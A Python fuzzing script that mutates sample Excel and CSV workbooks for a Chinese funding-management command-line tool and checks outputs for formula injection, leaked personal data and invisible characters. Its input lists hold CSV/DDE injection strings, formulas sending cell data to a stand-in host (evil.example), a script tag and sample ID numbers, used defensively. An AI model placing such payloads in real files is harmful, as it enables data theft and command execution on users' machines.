"""make fuzz: mutate the sample workbooks and run EVERY command on each case, checking the outputs.

Deterministic for a seed: case i copies one sample folder and mutates one or two of its workbooks
with random.Random(seed, i): cells (hostile text, real formula cells, text that looks like a formula
such as =HYPERLINK(...), Chinese numerals, placeholders, phone/ID/card numbers), structure (sheet
names, header labels, merged cells, blank rows, hidden sheets) or bytes (raw, or the zip's XML).
One child process per case then runs, in process, validate (json, table, csv), rank (json, xlsx),
disburse (json, xlsx), report (publicity, summary, annotated), explain and run over the folder,
and checks:
- no traceback, no "内部错误", exit 0/1 (validate) or 0/1/2 (the others);
- no formula made from text: an xlsx output holds a formula cell only in an annotated copy and only
  where the source workbook had that formula; a csv field never starts with = + - @;
- no personal data (privacy.find) and no invisible character (bidi override, zero-width space, C1
  control) in any output but the annotated copies (which keep originals);
- inputs unchanged (every file of the folder hashed before and after);
and counts a case as "reached the rules" when no mutated file was refused (SG001) and at least one
project was loaded. Failing folders are kept under build/fuzz-failures/ with the reason.

    python scripts/fuzz.py [--count 200] [--seed 20231231] [--jobs 2] [--samples sample_workbooks]
"""

from __future__ import annotations

import argparse
import hashlib
import io
import json
import os
import random
import re
import shutil
import subprocess
import sys
import tempfile
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
SGOV = [sys.executable, "-m", "selfgov_cli.cli.app"]
HOSTILE_TEXT = [
    "#DIV/0!",
    "#REF!",
    "#N/A",
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-1",
    "@SUM(A1)",
    "",
    " ",
    "　",
    "9" * 40,
    "1e308",
    "-0",
    "NaN",
    "inf",
    "5万万",
    "¥-50,000",
    "2023-02-30",
    "2023年13月1日",
    "99999999",
    "0.0000001",
    "是否",
    "√×",
    "合计",
    "申报表",
    "项目编号",
    "PX-2023-001",
    "张" * 5000,
    "<script>alert(1)</script>",
    "\u202e\u0000\ufeff",
    "13812345678",
    "310101199001011234",
    "50%%",
    "１２３４５",
]
# Amounts in Chinese numerals (exact, vague and malformed) and 发票号 placeholders
CHINESE_AND_PLACEHOLDERS = [
    "伍万元整",
    "人民币壹万贰仟叁佰元伍角",
    "壹拾万元整",
    "一万二千元",
    "叁佰元零伍分",
    "伍万多元",
    "一万二",
    "零零元",
    "壹亿亿元",
    "十" * 300,
    "伍角伍角",
    "人民币（大写）：",
    "申请金额（大写）",
    "无",
    "暂无",
    "空",
    "/",
    "-",
    "—",
    "N/A",
    "小计",
    "编制人：王某",
]
HOSTILE_TEXT += CHINESE_AND_PLACEHOLDERS
# Text that looks like a live formula (it must stay text everywhere) and personal data (masked
# everywhere but the annotated copies)
FORMULA_TEXT = [
    '=HYPERLINK("http://evil.example/?"&B7,"核对 13812345678")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=1+1",
]
PERSONAL = [
    "13812345678",
    "１３８１２３４５６７２",
    "138－1234－5673",
    "138.1234.5674",
    "Tel13812345675",
    "021 5888 1237",
    "（021）5888-1238",
    "310101199001011250",
    "310101 19900101 1250",
    "zhang.san@example.com",
    "6222 0212 3456 7890",
    "联系人张三 13912345678",
    # forms the seventh session's attack found unmasked, and invisible characters
    "008613812345678",
    "摘要 +86-21-5888-1234",
    "138 - 1234 - 5678",
    "138\u200b1234\u200b5678",
    "银山议事会\u202e000,02",
    "修缮\x9b2J\x9d8;;http:e\x9c链\x7f",
]
HOSTILE_TEXT += FORMULA_TEXT + PERSONAL
# Real formula cells (openpyxl writes them as <f>): the copies may keep them, nothing may add one
FORMULAS = ["=1+1", "=SUM(E2:E5)", "=A1&B1", "=1/0", '=HYPERLINK("http://x.example","x")']
HEADERS = [
    "项目编号",
    "项目 编号",
    "项目编号（必填）",
    "金额",
    "金额(元)",
    "日期",
    "摘要",
    "发票号",
    "支出类别",
    "总分",
    "评审人",
    "",
    "备注",
    "Unnamed",
]
HOSTILE_NUMBERS = [
    "0",
    "-1",
    "1e308",
    "-1e308",
    "4.9e-324",
    "99999999999999999999",
    "2958466",
    "45047.5",
    "NaN",
]


def _mutate_bytes(data: bytes, rng: random.Random) -> bytes:
    buf = bytearray(data)
    how = rng.choice(["flip", "truncate", "splice", "zero"])
    if how == "flip":
        for _ in range(rng.randint(1, 20)):
            buf[rng.randrange(len(buf))] = rng.randrange(256)
    elif how == "truncate":
        del buf[rng.randrange(1, len(buf)) :]
    elif how == "splice":
        at, size = rng.randrange(len(buf)), rng.randint(1, 4096)
        start = rng.randrange(len(buf))
        buf[at:at] = buf[start : start + size]
    else:
        at = rng.randrange(len(buf))
        buf[at : at + rng.randint(1, 512)] = b"\x00" * rng.randint(1, 512)
    return bytes(buf)


_V = re.compile(rb"<v>[^<]*</v>")
_T = re.compile(rb'\bt="[a-zA-Z]+"')
_ROW = re.compile(rb'<row r="\d+"')
_TEXT = re.compile(rb"<t(?: [^>]*)?>[^<]*</t>")


def _mutate_xml(data: bytes, rng: random.Random) -> bytes:
    """Valid-zip, odd-content mutations of one sheet or shared-strings XML."""
    for _ in range(rng.randint(1, 8)):
        how = rng.choice(["value", "type", "row", "text", "cut", "dimension"])
        if how == "value" and (hits := list(_V.finditer(data))):
            m = rng.choice(hits)
            new = rng.choice(HOSTILE_NUMBERS + HOSTILE_TEXT[:20]).encode()
            data = data[: m.start()] + b"<v>" + _xml_escape(new) + b"</v>" + data[m.end() :]
        elif how == "type" and (hits := list(_T.finditer(data))):
            m = rng.choice(hits)
            data = (
                data[: m.start()]
                + rng.choice([b't="e"', b't="s"', b't="str"', b't="b"', b't="n"', b't="d"'])
                + data[m.end() :]
            )
        elif how == "row" and (hits := list(_ROW.finditer(data))):
            m = rng.choice(hits)
            data = (
                data[: m.start()]
                + b'<row r="%d"' % rng.choice([0, 1, 2, 70000, 1048576])
                + data[m.end() :]
            )
        elif how == "text" and (hits := list(_TEXT.finditer(data))):
            m = rng.choice(hits)
            new = _xml_escape(rng.choice(HOSTILE_TEXT).encode())
            data = data[: m.start()] + b"<t>" + new + b"</t>" + data[m.end() :]
        elif how == "cut" and len(data) > 10:
            at = rng.randrange(len(data))
            data = data[:at] + data[at + rng.randint(1, 64) :]
        elif how == "dimension":
            data = re.sub(
                rb'<dimension ref="[^"]*"',
                b'<dimension ref="A1:XFD%d"' % rng.choice([1, 1048576, 2000000]),
                data,
                count=1,
            )
    return data


def _xml_escape(text: bytes) -> bytes:
    return (
        text.replace(b"&", b"&amp;")
        .replace(b"<", b"&lt;")
        .replace(b">", b"&gt;")
        .replace(b"\x00", b"")
    )


def _mutate_zip(data: bytes, rng: random.Random) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    names = source.namelist()
    targets = [
        n for n in names if n.startswith("xl/worksheets/") or n == "xl/sharedStrings.xml"
    ] or names
    chosen = set(rng.sample(targets, k=min(len(targets), rng.randint(1, 2))))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in names:
            body = source.read(name)
            target.writestr(name, _mutate_xml(body, rng) if name in chosen else body)
    return out.getvalue()


def _mutate_cells(path: Path, rng: random.Random) -> None:
    """Write hostile values into random cells of the used range with openpyxl."""
    import openpyxl

    wb = openpyxl.load_workbook(path)
    for _ in range(rng.randint(1, 12)):
        ws = rng.choice(wb.worksheets)
        row, col = rng.randint(1, max(ws.max_row, 1) + 2), rng.randint(1, max(ws.max_column, 1) + 1)
        value = rng.choice(
            [
                rng.choice(HOSTILE_TEXT),
                rng.uniform(-1e12, 1e12),
                rng.randint(-(10**15), 10**15),
                None,
                True,
                float("nan"),
            ]
        )
        cell = ws.cell(row=row, column=col, value=value)
        if isinstance(value, str):
            cell.data_type = "s"  # text, never a formula
    if rng.random() < 0.2 and len(wb.worksheets) > 1:
        rng.choice(wb.worksheets).sheet_state = rng.choice(["hidden", "veryHidden"])
    if rng.random() < 0.2:
        ws = rng.choice(wb.worksheets)
        ws.title = rng.choice(
            ["申报表", "经费台账", "预算明细", "评审打分", "Sheet9", "评估结果", "经费台帐"]
        ) + str(rng.randint(0, 9)) * rng.randint(0, 1)
    wb.save(path)


def _mutate_structure(path: Path, rng: random.Random) -> None:
    """Sheet names, header labels, merged cells, blank rows, real formula cells, hidden sheets."""
    import openpyxl

    wb = openpyxl.load_workbook(path)
    for _ in range(rng.randint(1, 4)):
        ws = rng.choice(wb.worksheets)
        how = rng.choice(["title", "header", "merge", "blank", "formula", "hide", "swap"])
        top = 1
        for row in ws.iter_rows(min_row=1, max_row=min(ws.max_row, 30)):
            if sum(c.value is not None for c in row) >= 2:
                top = row[0].row
                break
        if how == "title":
            ws.title = rng.choice(
                ["申报表", "经费台账", "预算明细", "评审打分", "评估结果", "经费台帐", "Sheet1"]
                + ["项目汇总", "人工认定", "x" * 31, "台账 (2)", "=1+1"]
            )[:31]
        elif how == "header":
            col = rng.randint(1, max(ws.max_column, 1) + 1)
            ws.cell(row=top, column=col, value=rng.choice(HEADERS) or None)
        elif how == "merge" and ws.max_row >= 1:
            r1 = rng.randint(1, max(ws.max_row, 1))
            c1 = rng.randint(1, max(ws.max_column, 1))
            r2 = r1 + rng.choice([0, 0, 1, 3, 50])
            c2 = c1 + rng.choice([0, 1, 2])
            if (r1, c1) != (r2, c2):
                ws.merge_cells(start_row=r1, start_column=c1, end_row=r2, end_column=c2)
        elif how == "blank":
            ws.insert_rows(rng.randint(1, max(ws.max_row, 1) + 1), rng.randint(1, 3))
        elif how == "formula":
            r, c = rng.randint(1, max(ws.max_row, 1) + 1), rng.randint(1, max(ws.max_column, 1))
            ws.cell(row=r, column=c).value = rng.choice(FORMULAS)  # a real formula cell
        elif how == "hide" and len(wb.worksheets) > 1:
            ws.sheet_state = rng.choice(["hidden", "veryHidden"])
        elif how == "swap" and ws.max_column >= 2:
            a, b = rng.sample(range(1, ws.max_column + 1), 2)
            for r in range(1, ws.max_row + 1):
                x, y = ws.cell(row=r, column=a), ws.cell(row=r, column=b)
                if type(x).__name__ == "Cell" and type(y).__name__ == "Cell":
                    x.value, y.value = y.value, x.value
    wb.save(path)


def _mutate_csv(path: Path, rng: random.Random) -> None:
    data = path.read_bytes()
    text = data.decode("utf-8", "replace")
    fields = text.split(",")
    for _ in range(rng.randint(1, 6)):
        fields[rng.randrange(len(fields))] = rng.choice(HOSTILE_TEXT).replace(",", "，")
    path.write_text(",".join(fields), encoding="utf-8")


def mutate(path: Path, rng: random.Random) -> str:
    """Mutate one workbook in place; returns the kind of mutation."""
    data = path.read_bytes()
    if path.suffix.lower() == ".csv":
        kind = rng.choice(["csv", "csv", "bytes"])
    elif data[:2] == b"PK" and path.suffix.lower() in (".xlsx", ".xlsm"):
        kind = rng.choice(["cells"] * 9 + ["structure"] * 6 + ["xml"] * 3 + ["bytes"] * 2)
    else:
        kind = "bytes"
    try:
        if kind == "bytes":
            path.write_bytes(_mutate_bytes(data, rng))
        elif kind == "xml":
            path.write_bytes(_mutate_zip(data, rng))
        elif kind == "csv":
            _mutate_csv(path, rng)
        elif kind == "structure":
            _mutate_structure(path, rng)
        else:
            _mutate_cells(path, rng)
    except Exception:  # openpyxl refused an earlier odd value: fall back to raw bytes
        kind = "bytes"
        path.write_bytes(_mutate_bytes(data, rng))
    return kind


# -- one case, in a child process ---------------------------------------------------------------

AS_OF = "2023-12-31"


def _commands(out: Path) -> list[tuple[str, list[str]]]:
    return [
        ("validate-json", ["validate", "--format", "json"]),
        ("validate-table", ["validate"]),
        ("validate-csv", ["validate", "--format", "csv", "-o", str(out / "validate")]),
        ("rank-json", ["rank", "--format", "json"]),
        ("rank-xlsx", ["rank", "--format", "xlsx", "-o", str(out / "rank")]),
        ("disburse-json", ["disburse", "--format", "json"]),
        ("disburse-xlsx", ["disburse", "--format", "xlsx", "-o", str(out / "disburse")]),
        ("publicity-md", ["report", "-k", "publicity", "-f", "md", "-o", str(out / "pub")]),
        ("summary-xlsx", ["report", "-k", "summary", "-f", "xlsx", "-o", str(out / "sum")]),
        ("summary-html", ["report", "-k", "summary", "-f", "html", "-o", str(out / "sum")]),
        ("annotated", ["report", "-k", "annotated", "-o", str(out / "ann")]),
        ("run", ["run", "-o", str(out / "run")]),
    ]


def _has_formula(path: Path) -> bool:
    """Any <f> element in any sheet of an xlsx (fast: raw XML, no workbook built)."""
    with zipfile.ZipFile(path) as archive:
        return any(
            b"<f>" in archive.read(n) or b"<f " in archive.read(n)
            for n in archive.namelist()
            if n.startswith("xl/worksheets/") and n.endswith(".xml")
        )


def _formula_cells(path: Path) -> set[tuple[str, str]] | None:
    import openpyxl

    try:
        if not _has_formula(path):
            return set()
        wb = openpyxl.load_workbook(path)
    except Exception:
        return None
    return {
        (ws.title, c.coordinate)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    }


def _xlsx_text(path: Path) -> str:
    import python_calamine as pc

    book = pc.CalamineWorkbook.from_path(str(path))
    return "\n".join(  # text cells: a number is an amount, not a phone (privacy.py)
        value
        for name in book.sheet_names
        for row in book.get_sheet_by_name(name).to_python()
        for value in row
        if isinstance(value, str) and value
    )


def check_case(folder: Path, out: Path, victims: list[str]) -> dict:
    """Run every command over the folder (in this process) and check every output."""
    import csv as csv_module

    from typer.testing import CliRunner

    from selfgov_cli.cli.app import app
    from selfgov_cli.privacy import find
    from selfgov_cli.report.annotate import annotated_names

    problems: list[str] = []
    reached = False
    runner = CliRunner()
    texts: list[tuple[str, str]] = []
    for name, argv in _commands(out):
        result = runner.invoke(app, [argv[0], str(folder), *argv[1:], "--as-of", AS_OF])
        output = result.output
        allowed = (0, 1) if name.startswith("validate") else (0, 1, 2)
        if result.exception is not None and not isinstance(result.exception, SystemExit):
            problems.append(f"{name}: exception {type(result.exception).__name__}")
        elif result.exit_code not in allowed:
            problems.append(f"{name}: exit {result.exit_code}")
        if "Traceback" in output or "内部错误" in output:
            problems.append(f"{name}: traceback or 内部错误 in output")
        texts.append((f"{name} stdout", output))
        if name == "validate-json" and result.exit_code in (0, 1):
            try:
                payload = json.loads(result.stdout)
            except json.JSONDecodeError:
                problems.append("validate-json: stdout is not JSON")
            else:
                refused = {f["file"] for f in payload["findings"] if f["rule"] == "SG001"}
                reached = payload["summary"]["projects"] >= 1 and not refused & set(victims)
                if os.environ.get("SGOV_FUZZ_DEBUG"):
                    why = [f["message"] for f in payload["findings"] if f["rule"] == "SG001"]
                    print(
                        f"projects {payload['summary']['projects']}, SG001 {why[:3]}",
                        file=sys.stderr,
                    )
        if name == "disburse-json" and result.exit_code in (0, 1):
            ids = re.findall(r'"project_id": "([^"]+)"', result.stdout)
            if ids:
                result = runner.invoke(
                    app, ["explain", ids[0], str(folder), "--format", "json", "--as-of", AS_OF]
                )
                if result.exception is not None and not isinstance(result.exception, SystemExit):
                    problems.append(f"explain: exception {type(result.exception).__name__}")
                elif result.exit_code not in (0, 1, 2) or "内部错误" in result.output:
                    problems.append(f"explain: exit {result.exit_code}")
                texts.append(("explain stdout", result.output))
    sources = {
        rel: annotated
        for rel, annotated in annotated_names(
            p.relative_to(folder).as_posix() for p in folder.rglob("*") if p.is_file()
        ).items()
    }
    source_of = {annotated: rel for rel, annotated in sources.items()}
    for path in sorted(p for p in out.rglob("*") if p.is_file()):
        rel = path.relative_to(out).as_posix()
        parts = path.relative_to(out).parts
        annotated = "annotated" in parts
        if path.suffix == ".xlsx":
            formulas = _formula_cells(path)
            if formulas is None:
                problems.append(f"{rel}: not a readable xlsx")
                continue
            if annotated:
                inner = "/".join(parts[parts.index("annotated") + 1 :])
                source = folder / source_of.get(inner, inner)
                allowed = (
                    _formula_cells(source)
                    if source.suffix.lower() == ".xlsx" and source.exists()
                    else set()
                ) or set()
                if formulas - allowed:
                    problems.append(
                        f"{rel}: formula not in the source {sorted(formulas - allowed)[:3]}"
                    )
            elif formulas:
                problems.append(f"{rel}: formula cells {sorted(formulas)[:3]}")
            if not annotated:
                texts.append((rel, _xlsx_text(path)))
        elif path.suffix in (".json", ".md", ".html", ".log", ".csv", ".txt"):
            text = path.read_text(encoding="utf-8-sig", errors="replace")
            if not annotated:
                texts.append((rel, text))
            if path.suffix == ".csv":
                for line in csv_module.reader(text.splitlines()):
                    if any(field[:1] in ("=", "+", "-", "@") for field in line):
                        bad = [f for f in line if f[:1] in ("=", "+", "-", "@")][:2]
                        problems.append(f"{rel}: csv field like a formula {bad}")
                        break
    from selfgov_cli.config import load_config

    try:  # the office's own number is published on purpose (privacy.Public)
        office = {load_config(folder).office_phone.strip()} - {""}
    except Exception:
        office = set()
    for where, text in texts:
        found = [text[a:b] for a, b in find(text) if text[a:b] not in office]
        if found:
            problems.append(f"{where}: personal data {found[:3]}")
        if hit := _INVISIBLE.search(text):  # bidi overrides, zero-width spaces, C1 controls
            problems.append(f"{where}: invisible character U+{ord(hit.group()):04X}")
    return {"problems": problems, "reached": reached}


_INVISIBLE = re.compile("[\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069]")


def _hashes(folder: Path) -> dict[str, str]:
    return {
        p.relative_to(folder).as_posix(): hashlib.blake2b(p.read_bytes()).hexdigest()
        for p in folder.rglob("*")
        if p.is_file()
    }


def run_case(
    index: int, seed: int, folders: list[Path], keep: Path
) -> tuple[int, str, list[str], bool, float]:
    rng = random.Random(f"{seed}:{index}")
    folder = rng.choice(folders)
    books = sorted(
        p
        for p in folder.rglob("*")
        if p.suffix.lower() in {".xlsx", ".xlsm", ".xls", ".ods", ".csv"}
    )
    started = time.perf_counter()
    with tempfile.TemporaryDirectory(prefix="sgov-fuzz-") as tmp:
        work = Path(tmp) / folder.name
        shutil.copytree(folder, work)
        kinds, victims = [], []
        for book in rng.sample(books, k=min(len(books), rng.choice([1, 1, 2]))):
            victim = work / book.relative_to(folder)
            kinds.append(mutate(victim, rng))
            victims.append(victim.relative_to(work).as_posix())
        before = _hashes(work)
        out = Path(tmp) / "out"
        env = dict(os.environ, SGOV_CACHE_DIR=str(Path(tmp) / "cache"))
        command = [sys.executable, str(Path(__file__).resolve()), "--one", str(work), str(out)]
        command += victims
        problems: list[str] = []
        reached = False
        try:
            done = subprocess.run(
                command, capture_output=True, text=True, cwd=ROOT, timeout=300, env=env
            )
        except subprocess.TimeoutExpired:
            problems.append("timed out after 300 s")
        else:
            if os.environ.get("SGOV_FUZZ_DEBUG"):
                print(index, victims, kinds, done.stderr[-500:], file=sys.stderr)
            if done.returncode != 0:
                problems.append(f"case process exit {done.returncode}: {done.stderr[-2000:]}")
            else:
                verdict = json.loads(done.stdout.strip().splitlines()[-1])
                problems += verdict["problems"]
                reached = verdict["reached"]
        if _hashes(work) != before:
            problems.append("an input file changed")
        if problems:
            saved = keep / f"case-{index}"
            shutil.rmtree(saved, ignore_errors=True)
            shutil.copytree(work, saved)
            (keep / f"case-{index}.txt").write_text(
                f"mutated: {victims} ({kinds})\n" + "\n".join(problems) + "\n", encoding="utf-8"
            )
        return index, "+".join(kinds), problems, reached, time.perf_counter() - started


def main(argv: list[str] | None = None) -> int:
    argv = sys.argv[1:] if argv is None else argv
    if argv[:1] == ["--one"]:  # the child: one case
        folder, out, victims = Path(argv[1]), Path(argv[2]), argv[3:]
        import contextlib

        with contextlib.redirect_stdout(io.StringIO()):
            verdict = check_case(folder, out, victims)
        print(json.dumps(verdict, ensure_ascii=False))
        return 0
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--count", type=int, default=200)
    parser.add_argument("--seed", type=int, default=20231231)
    parser.add_argument("--jobs", type=int, default=2)
    parser.add_argument("--samples", type=Path, default=ROOT / "sample_workbooks")
    args = parser.parse_args(argv)
    folders = (
        sorted(p for p in args.samples.iterdir() if p.is_dir()) if args.samples.is_dir() else []
    )
    if not folders:
        print(
            f"fuzz: no sample folders in {args.samples}; run `make samples` first", file=sys.stderr
        )
        return 2
    keep = ROOT / "build" / "fuzz-failures"
    keep.mkdir(parents=True, exist_ok=True)
    kinds: dict[str, int] = {}
    failures = []
    reached = 0
    slowest = 0.0
    started = time.perf_counter()
    with ThreadPoolExecutor(max_workers=max(1, args.jobs)) as pool:
        for index, kind, problems, hit, seconds in pool.map(
            lambda i: run_case(i, args.seed, folders, keep), range(args.count)
        ):
            for one in kind.split("+"):
                kinds[one] = kinds.get(one, 0) + 1
            reached += hit
            slowest = max(slowest, seconds)
            if problems:
                failures.append(index)
                print(f"case {index} ({kind}): {'; '.join(problems)[:600]}", file=sys.stderr)
    mix = ", ".join(f"{k} {v}" for k, v in sorted(kinds.items()))
    print(
        f"fuzz: {args.count} cases (seed {args.seed}; mutations: {mix}); "
        f"{args.count - len(failures)} survived every check, {len(failures)} failed; "
        f"{reached} reached the rules; {len(_commands(Path()))} commands a case; "
        f"slowest case {slowest:.1f} s; {time.perf_counter() - started:.0f} s in all"
    )
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
